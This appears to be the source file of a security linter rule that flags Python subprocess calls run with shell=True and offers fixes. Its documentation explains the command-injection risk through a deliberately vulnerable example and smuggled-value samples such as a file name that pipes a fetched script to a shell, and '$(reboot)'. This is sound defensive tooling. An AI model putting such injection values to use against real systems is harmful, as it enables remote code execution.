import type { Node } from '../../engine/parser';
import { defineRule, fix, replace, type RuleContext } from '../../engine/rule';
import { bindingValues, canUseImport, constantTruth } from '../../engine/scope';
import { argument, callArgs, unparen, type CallArgs } from '../../engine/syntax';
import type { Fix } from '../../engine/types';
import { removeArgument } from '../util/edits';
import { analyseCommand, commandAsList, describeSources, SUBPROCESS_SHELL_FUNCTIONS, type CommandInfo } from '../util/process';

/** `subprocess` functions that take `shell=`. */
const SHELL_OPTION = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);

const SEQUENCE_TYPES = new Set(['list', 'tuple', 'list_comprehension', 'generator_expression']);

/** Whether `node` may be a list of arguments rather than a command string (then `shlex.split` would fail). */
function maybeSequence(node: Node, ctx: RuleContext): boolean {
  const n = unparen(node);
  if (SEQUENCE_TYPES.has(n.type)) return true;
  if (n.type === 'call') {
    const fn = n.childForFieldName('function');
    const method = fn?.type === 'attribute' ? fn.childForFieldName('attribute')?.text : fn?.text;
    return method === 'split' || method === 'list' || method === 'splitlines';
  }
  if (n.type === 'identifier') return (bindingValues(n, ctx) ?? []).some((v) => maybeSequence(v, ctx));
  return false;
}

function fixes(call: Node, args: CallArgs, command: Node | null, info: CommandInfo, ctx: RuleContext): Fix[] {
  const shellKw = args.keywordNodes.get('shell');
  // `executable=` replaces the shell itself; star arguments may carry anything.
  if (!command || !shellKw || args.keywords.has('executable') || args.hasStarArgs || args.hasStarKwargs) return [];
  const noShell = removeArgument(shellKw);
  if (info.kind === 'constant') {
    const list = commandAsList(command);
    return list ? [fix('Run without a shell (pass the words as a list)', 'safe', replace(unparen(command), list), noShell)] : [];
  }
  if (maybeSequence(command, ctx)) return [];
  const imp = ctx.requireImport('shlex');
  if (!canUseImport(imp, call, ctx)) return [];
  return [fix('Split with `shlex.split()` and run without a shell', 'unsafe', replace(command, `${imp.ref}.split(${ctx.textOf(command)})`), noShell, imp.edits)];
}

export default defineRule({
  id: 'SEC602',
  name: 'subprocess-shell-true',
  local: true,
  summary: '`subprocess` call that runs its command through the shell (`shell=True`)',
  owasp: { '2025': 'A05', '2021': 'A03' },
  cwe: [78],
  severity: 'error',
  confidence: 'high',
  fix: 'sometimes',
  aliases: ['B602', 'S602'],
  tags: ['injection'],
  nodeTypes: ['call'],
  check(call, ctx) {
    const name = ctx.callName(call);
    if (!name) return;
    const always = SUBPROCESS_SHELL_FUNCTIONS.has(name);
    if (!always && !SHELL_OPTION.has(name)) return;
    const args = callArgs(call);
    // Only a literal truthy `shell=` counts: `shell=use_shell` is a decision made elsewhere.
    if (!always && constantTruth(args.keywords.get('shell')) !== true) return;
    const command = always ? argument(args, 0, 'cmd') : argument(args, 0, 'args');
    if (!command && !args.hasStarArgs && !args.hasStarKwargs) return;
    const info: CommandInfo = command ? analyseCommand(command, ctx, !always) : { kind: 'dynamic', sources: [] };
    const fn = call.childForFieldName('function') ?? call;
    const label = `\`${name}()\``;
    const fixList = always ? [] : fixes(call, args, command, info, ctx);
    if (info.kind === 'dynamic') {
      const from = info.sources.length ? `a command built from ${describeSources(info.sources)}` : 'a command taken from its arguments';
      ctx.report(fn, { message: `${label} runs ${from} through the shell`, fixes: fixList });
      return;
    }
    // A constant cannot be injected, and quoted values cannot add shell syntax: report the
    // shell itself at low severity, as Bandit does for literal commands.
    ctx.report(fn, {
      message: info.kind === 'constant' ? `${label} runs a constant command through the shell` : `${label} runs a command through the shell (its interpolated values are quoted or numeric)`,
      severity: 'info',
      confidence: 'low',
      fixes: fixList,
    });
  },
  docs: {
    what: `Finds \`subprocess.run\`, \`call\`, \`check_call\`, \`check_output\` and \`Popen\` called with a truthy literal \`shell=\` (\`shell=True\`, \`shell=1\`), and \`subprocess.getoutput\`, \`subprocess.getstatusoutput\` and \`asyncio.create_subprocess_shell\`, which always use the shell. A command built from anything but constants is an error. A constant command, or one whose interpolated values all go through \`shlex.quote\`, \`int()\` or a numeric \`%d\` conversion (\`shlex.quote\` quotes for POSIX shells, not \`cmd.exe\`), is reported as information only: nothing can be injected, but the shell is still unnecessary. \`shell=some_variable\` is not reported.`,
    why: `With a shell, the command string is a shell script: \`;\`, \`|\`, \`&&\`, \`$(...)\`, backticks, redirections and globs in any interpolated value are executed. A file name such as \`x; curl evil.sh | sh\` or a branch name such as \`$(reboot)\` becomes a command running with your process's privileges. Passing the program and its arguments as a list without \`shell=True\` hands each argument to the program unchanged, so there is nothing to inject.`,
    example: `import subprocess

def archive(name: str):
    subprocess.run(f"tar czf {name}.tgz {name}", shell=True)`,
    useInstead: `import subprocess

def archive(name: str):
    subprocess.run(["tar", "czf", f"{name}.tgz", "--", name])`,
    fixSafety: `For a constant command with no shell syntax (no quotes, escapes, pipes, redirections, variables, globs, comments or leading \`VAR=value\`) whose first word is a real program rather than a shell builtin (\`cd\`, \`echo\`, \`dir\`...), the fix removes \`shell=True\` and passes the words as a list. The shell would have split the string into exactly those words and run the same program with the same arguments, so this fix is safe. (On Windows, scripts such as \`npm.cmd\` are found only through the shell; the common ones are excluded.)

For any other command the fix wraps it in \`shlex.split(...)\` and removes \`shell=True\`; it is unsafe. \`shlex.split\` follows POSIX quoting but performs no expansion, so pipes, redirections, \`&&\`, globs, \`~\` and \`$VAR\` in the command stop working (they become literal arguments), and a command that is already a list makes \`shlex.split\` raise. Check that the command is a single program with arguments. \`import shlex\` is added when missing.`,
    references: [
      { title: 'Python docs: subprocess — Security considerations', url: 'https://docs.python.org/3/library/subprocess.html#security-considerations' },
      { title: 'Python docs: shlex.split and shlex.quote', url: 'https://docs.python.org/3/library/shlex.html' },
      { title: 'OWASP OS Command Injection Defense Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html' },
      { title: 'Bandit B602: subprocess_popen_with_shell_equals_true', url: 'https://bandit.readthedocs.io/en/latest/plugins/b602_subprocess_popen_with_shell_equals_true.html' },
    ],
  },
});
